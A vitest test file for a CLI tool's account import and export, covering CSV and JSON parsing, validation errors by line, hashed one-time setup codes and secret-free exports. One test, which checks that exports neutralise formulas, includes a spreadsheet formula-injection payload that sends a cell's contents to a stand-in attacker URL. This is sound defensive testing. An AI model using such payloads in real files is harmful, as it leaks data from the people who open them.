import { existsSync, readFileSync, statSync, writeFileSync } from 'node:fs'
import { join } from 'node:path'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { expectFailure, okJson } from './support/mfa-cli'
import { auditRows, cliActor, cliFor, jsonOf, requireBuiltCli, siteFor, withDatabase } from './support/run-cli'

/**
 * `keyhold account import|export`: CSV and JSON, every row checked first and
 * reported by line, nothing imported while any row is bad (or the good ones
 * with --skip-invalid), a one-time setup code per imported account.
 */
const { temp, dataDir, cli } = siteFor('import')
const strong = 'Orbit lantern 7 meadow'
const header = 'username,display_name,email,phone,role'

function file(name: string, text: string): string {
  const path = join(temp.path, name)
  writeFileSync(path, text)
  return path
}

function accountCount(): number {
  return withDatabase(dataDir, (db) => db.prepare<[], { n: number }>('SELECT count(*) AS n FROM accounts').get())!.n
}

interface Issued {
  username: string
  setupCode: string
  expiresAt: string
}

/**
 * The printed code is 120 bits, and the database keeps only its keyed hash (issue 15; the key is
 * sealed in the vault, so the redemption tests check that the two belong together); no password works yet.
 */
function expectSetupCode(issued: Issued): void {
  const row = withDatabase(dataDir, (db) =>
    db
      .prepare<[string], { code_hash: string; expires_at: number; password_hash: string }>(
        `SELECT s.code_hash, s.expires_at, a.password_hash FROM setup_codes s JOIN accounts a ON a.id = s.account_id
         WHERE a.username = ?`,
      )
      .get(issued.username),
  )!
  expect(issued.setupCode).toMatch(/^[A-Z2-7]{4}(-[A-Z2-7]{4}){5}$/)
  expect(row.code_hash).toMatch(/^hmac-sha256\$[0-9a-f]{64}$/)
  expect(row.code_hash).not.toContain(issued.setupCode.replaceAll('-', ''))
  expect(new Date(issued.expiresAt).getTime()).toBe(row.expires_at)
  expect(row.password_hash).toBe('!setup-code-pending')
}

beforeAll(async () => {
  requireBuiltCli({ keyring: true })
  expect((await cli(['init', '--admin', 'alice'], { input: `${strong}\n` })).code).toBe(0)
}, 60_000)
afterAll(() => temp.remove())

describe('keyhold account import: CSV', () => {
  it('imports RFC 4180 CSV (quotes, doubled quotes, a comma and a line break in a field, CRLF) with setup codes', async () => {
    const csv = [
      header,
      'bob,"Bob ""Bobby"" Jones",bob@example.org,+44 20 7946 0958,user',
      '"carol","Carol, Head of IT",,,ADMIN',
      'dave,"Dave',
      'the Second",,,',
      '',
      'erin,,erin@example.org,,user',
    ].join('\r\n')
    const run = await cli(['account', 'import', file('people.csv', `${csv}\r\n`), '--json'])
    const result = okJson<{ imported: number; skipped: unknown[]; setupCodes: Issued[] }>(run)
    expect(result.imported).toBe(4)
    expect(result.skipped).toEqual([])
    expect(result.setupCodes.map((c) => c.username)).toEqual(['bob', 'carol', 'dave', 'erin'])
    for (const issued of result.setupCodes) {
      expect(issued.setupCode).toMatch(/^[A-Z2-7]{4}(-[A-Z2-7]{4}){5}$/)
      expectSetupCode(issued)
    }
    // Valid 7 days.
    const days = (new Date(result.setupCodes[0]!.expiresAt).getTime() - Date.now()) / 86_400_000
    expect(days).toBeGreaterThan(6.99)
    expect(days).toBeLessThanOrEqual(7)
    expect(okJson(await cli(['account', 'show', 'bob', '--json']))).toMatchObject({
      displayName: 'Bob "Bobby" Jones',
      email: 'bob@example.org',
      phone: '+442079460958',
      role: 'user',
    })
    expect(okJson(await cli(['account', 'show', 'carol', '--json']))).toMatchObject({
      displayName: 'Carol, Head of IT',
      role: 'admin',
    })
    expect(okJson(await cli(['account', 'show', 'dave', '--json']))).toMatchObject({
      displayName: 'Dave\r\nthe Second',
    })
    expect(okJson(await cli(['account', 'show', 'erin', '--json']))).toMatchObject({ displayName: 'erin' })
    const events = auditRows(dataDir)
      .filter((r) => r.actor === cliActor)
      .map((r) => r.event)
    expect(events.filter((e) => e === 'account.created')).toHaveLength(4)
    expect(events.filter((e) => e === 'setup-code.issued')).toHaveLength(4)
    expect(events).toContain('accounts.imported')
  })

  it('prints the codes once as a table without --json', async () => {
    const run = await cli(['account', 'import', file('one.csv', `${header}\nfrank,Frank,,,\n`)])
    expect(run.code).toBe(0)
    expect(run.stdout).toMatch(/^Imported 1 account\. Each has a one-time setup code, shown only now and valid until /)
    expect(run.stdout).toMatch(
      /\nUSERNAME +SETUP CODE +EXPIRES\nfrank +[A-Z2-7]{4}(-[A-Z2-7]{4}){5} +\d{4}-\d\d-\d\d \d\d:\d\d UTC\n$/,
    )
  })

  it('10,000 rows with three bad ones: each bad row by line and reason, and nothing imported', async () => {
    const rows = [header]
    for (let i = 0; i < 10_000; i += 1) rows.push(`user${i},User ${i},user${i}@example.org,,user`)
    rows[2501] = 'user2500,User,not-an-email,,user'
    rows[7001] = 'user7000,User,,+1 555,user'
    rows[9001] = 'USER5,Again,,,boss'
    const before = accountCount()
    const run = await cli(['account', 'import', file('big.csv', rows.join('\n')), '--json'])
    expectFailure(run, 'VALIDATION', /^error: VALIDATION: 3 rows of 10000 are invalid; nothing was imported$/)
    expect(jsonOf(run)).toMatchObject({
      invalid: [
        { line: 2502, username: 'user2500', field: 'email', message: 'Enter a valid email address' },
        { line: 7002, username: 'user7000', field: 'phone' },
        { line: 9002, username: 'USER5', field: 'username', message: '"USER5" is already on line 7 of this file' },
        { line: 9002, username: 'USER5', field: 'role', message: 'must be admin or user, not "boss"' },
      ],
    })
    expect(accountCount()).toBe(before)
    const human = await cli(['account', 'import', join(temp.path, 'big.csv')])
    expect(human.code).toBe(1)
    expect(human.stderr.split('\n').slice(0, 4)).toEqual([
      'line 2502 (user2500): email: Enter a valid email address',
      'line 7002 (user7000): phone: This phone number is not valid for its country',
      'line 9002 (USER5): username: "USER5" is already on line 7 of this file',
      'line 9002 (USER5): role: must be admin or user, not "boss"',
    ])
    expect(human.stderr).toContain('fix: Fix them, or add --skip-invalid to import the other 9997\n')
  })

  it('--skip-invalid imports the good rows and lists the skipped ones', async () => {
    const csv = [
      header,
      'gina,Gina,,,',
      'bob,Bob again,,,',
      'x,too short,,,',
      'hank,Hank,hank@,,',
      'ivan,Ivan,,,admin',
    ].join('\n')
    const run = await cli(['account', 'import', file('mixed.csv', csv), '--skip-invalid'])
    expect(run.code).toBe(0)
    expect(run.stderr.split('\n').filter(Boolean)).toEqual([
      'skipped line 3 (bob): username: an account named "bob" already exists',
      'skipped line 4 (x): username: Username must be at least 2 characters',
      'skipped line 5 (hank): email: Enter a valid email address',
    ])
    expect(run.stdout).toMatch(/^Imported 2 accounts\./)
    expect(okJson(await cli(['account', 'show', 'ivan', '--json']))).toMatchObject({ role: 'admin' })
  })

  it('refuses a file with the wrong header, a broken quote or a wrong field count', async () => {
    expectFailure(
      await cli(['account', 'import', file('h.csv', 'user,name\nbob,Bob\n')]),
      'VALIDATION',
      /The first line must be exactly username,display_name,email,phone,role/,
    )
    expectFailure(
      await cli(['account', 'import', file('q.csv', `${header}\njack,"Jack,,,\n`)]),
      'VALIDATION',
      /Not valid CSV: line 2: a quoted field is not closed/,
    )
    const count = await cli(['account', 'import', file('n.csv', `${header}\njack,Jack,,\n`), '--json'])
    expectFailure(count, 'VALIDATION')
    expect(jsonOf(count)).toMatchObject({
      invalid: [{ line: 2, field: null, message: expect.stringMatching(/found 4/) }],
    })
  })
})

describe('keyhold account import: JSON, codes file, usage', () => {
  it('imports JSON and reports a bad object by the line it starts on; a password key is refused', async () => {
    const bad = `[\n  {"username": "kim", "display_name": "Kim", "email": null, "phone": null, "role": "user"},\n  {\n    "username": "lena",\n    "password": "hunter2hunter2"\n  }\n]\n`
    const run = await cli(['account', 'import', file('bad.json', bad), '--json'])
    expectFailure(run, 'VALIDATION')
    expect(jsonOf(run)).toMatchObject({ invalid: [{ line: 3, field: null, message: 'unknown key password' }] })
    const good = JSON.stringify([
      { username: 'kim', display_name: 'Kim', email: 'kim@example.org', phone: null, role: 'user' },
    ])
    const ok = okJson<{ imported: number }>(await cli(['account', 'import', file('good.json', good), '--json']))
    expect(ok.imported).toBe(1)
  })

  it('--codes-file writes username,setup_code,expires_at with mode 0600, and never over an existing file', async () => {
    const codes = join(temp.path, 'codes.csv')
    const run = await cli([
      'account',
      'import',
      file('c.csv', `${header}\nliam,,,,\nmona,,,,\n`),
      '--codes-file',
      codes,
      '--json',
    ])
    expect(okJson(run)).toEqual({ imported: 2, skipped: [], codesFile: codes })
    // The codes are credentials: only in the file, which only the operator can read.
    expect(statSync(codes).mode & 0o777).toBe(0o600)
    const lines = readFileSync(codes, 'utf8').split('\r\n')
    expect(lines[0]).toBe('username,setup_code,expires_at')
    const [username, setupCode, expiresAt] = lines[1]!.split(',') as [string, string, string]
    expect(username).toBe('liam')
    expect(run.stdout).not.toContain(setupCode)
    expectSetupCode({ username, setupCode, expiresAt })

    const again = await cli(['account', 'import', file('d.csv', `${header}\nnora,,,,\n`), '--codes-file', codes])
    expectFailure(again, 'CONFLICT', /already exists; setup codes are never written over a file/)
    expect(withDatabase(dataDir, (db) => db.prepare("SELECT 1 FROM accounts WHERE username = 'nora'").get())).toBe(
      undefined,
    )
    // A failed import leaves no codes file behind.
    const failed = join(temp.path, 'unused-codes.csv')
    expectFailure(
      await cli(['account', 'import', file('e.csv', `${header}\nliam,,,,\n`), '--codes-file', failed, '--json']),
      'VALIDATION',
    )
    expect(existsSync(failed)).toBe(false)
  })

  it('usage: the format comes from the extension or --format', async () => {
    const run = await cli(['account', 'import', file('people.txt', `${header}\n`)])
    expect(run.code).toBe(2)
    expect(run.stderr).toMatch(/^error: USAGE: say --format csv or --format json/)
    expect((await cli(['account', 'import', join(temp.path, 'people.txt'), '--format', 'xml'])).code).toBe(2)
    expect(
      okJson(await cli(['account', 'import', join(temp.path, 'people.txt'), '--format', 'csv', '--json'])),
    ).toMatchObject({
      imported: 0,
    })
  })
})

describe('keyhold account export', () => {
  it('writes CSV and JSON (mode 0600) without secrets; the export is audited and imports back', async () => {
    const csvFile = join(temp.path, 'out.csv')
    expect(okJson(await cli(['account', 'export', csvFile, '--json']))).toMatchObject({ file: csvFile, format: 'csv' })
    expect(statSync(csvFile).mode & 0o777).toBe(0o600)
    const csv = readFileSync(csvFile, 'utf8')
    expect(csv.startsWith(`${header}\r\n`)).toBe(true)
    expect(csv).toContain('bob,"Bob ""Bobby"" Jones",bob@example.org,+442079460958,user\r\n')
    expect(csv).toContain('dave,"Dave\r\nthe Second",,,user\r\n')
    expect(csv).not.toMatch(/argon2|setup-code-pending/)

    const jsonFile = join(temp.path, 'out.json')
    const exported = okJson<{ exported: number }>(await cli(['account', 'export', jsonFile, '--json']))
    const accounts = JSON.parse(readFileSync(jsonFile, 'utf8')) as Record<string, unknown>[]
    expect(accounts).toHaveLength(exported.exported)
    expect(accounts.find((a) => a.username === 'carol')).toEqual({
      username: 'carol',
      display_name: 'Carol, Head of IT',
      email: null,
      phone: null,
      role: 'admin',
    })
    expect(auditRows(dataDir).at(-1)).toEqual({ actor: cliActor, event: 'accounts.exported', account_id: null })
    // To stdout with -, and the same rows as the file.
    expect((await cli(['account', 'export', '-'])).stdout).toBe(csv)

    // The export is a valid import file: into a second data folder, every account comes back the same.
    const other = cliFor(join(temp.path, 'other'))
    expect((await other(['init', '--admin', 'root'], { input: `${strong}\n` })).code).toBe(0)
    const withoutAlice = file(
      'back.csv',
      csv
        .split('\r\n')
        .filter((line) => !line.startsWith('alice,'))
        .join('\r\n'),
    )
    const back = okJson<{ imported: number }>(await other(['account', 'import', withoutAlice, '--json']))
    expect(back.imported).toBe(exported.exported - 1)
    expect(okJson(await other(['account', 'show', 'dave', '--json']))).toMatchObject({
      displayName: 'Dave\r\nthe Second',
    })
  })

  it('S28: neutralises cells that would run as formulas, keeps E.164 phones, and imports them back unchanged', async () => {
    const hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Open")'
    const source = [
      header,
      `oscar,"${hyperlink.replaceAll('"', '""')}",,+44 20 7946 0959,user`,
      'pia,@SUM(1+1),-pia@example.org,,user',
      // As a spreadsheet saves a cell it shows as text: the apostrophe is not part of the name.
      "quinn,'=1+1,,,user",
    ].join('\r\n')
    expect(okJson(await cli(['account', 'import', file('formulas.csv', `${source}\r\n`), '--json']))).toMatchObject({
      imported: 3,
    })
    expect(okJson(await cli(['account', 'show', 'oscar', '--json']))).toMatchObject({ displayName: hyperlink })
    expect(okJson(await cli(['account', 'show', 'quinn', '--json']))).toMatchObject({ displayName: '=1+1' })

    const csvFile = join(temp.path, 'formulas-out.csv')
    okJson(await cli(['account', 'export', csvFile, '--json']))
    const csv = readFileSync(csvFile, 'utf8')
    expect(csv).toContain(`oscar,"'${hyperlink.replaceAll('"', '""')}",,+442079460959,user\r\n`)
    expect(csv).toContain("pia,'@SUM(1+1),'-pia@example.org,,user\r\n")
    expect(csv).toContain("quinn,'=1+1,,,user\r\n")
    // No cell of the file starts like a formula, unless it is a phone number in E.164.
    for (const line of csv.split('\r\n')) {
      for (const cell of line.split(',')) expect(/^"?[=+\-@\t\r]/.test(cell) && !/^\+\d{7,15}$/.test(cell)).toBe(false)
    }

    const other = cliFor(join(temp.path, 'formulas-other'))
    expect((await other(['init', '--admin', 'root'], { input: `${strong}\n` })).code).toBe(0)
    const rows = csv.split('\r\n').filter((line) => /^(oscar|pia|quinn),/.test(line))
    const back = file('formulas-back.csv', [header, ...rows, ''].join('\r\n'))
    expect(okJson(await other(['account', 'import', back, '--json']))).toMatchObject({ imported: 3 })
    expect(okJson(await other(['account', 'show', 'oscar', '--json']))).toMatchObject({
      displayName: hyperlink,
      phone: '+442079460959',
    })
    expect(okJson(await other(['account', 'show', 'pia', '--json']))).toMatchObject({
      displayName: '@SUM(1+1)',
      email: '-pia@example.org',
    })
    expect(okJson(await other(['account', 'show', 'quinn', '--json']))).toMatchObject({ displayName: '=1+1' })
  })
})
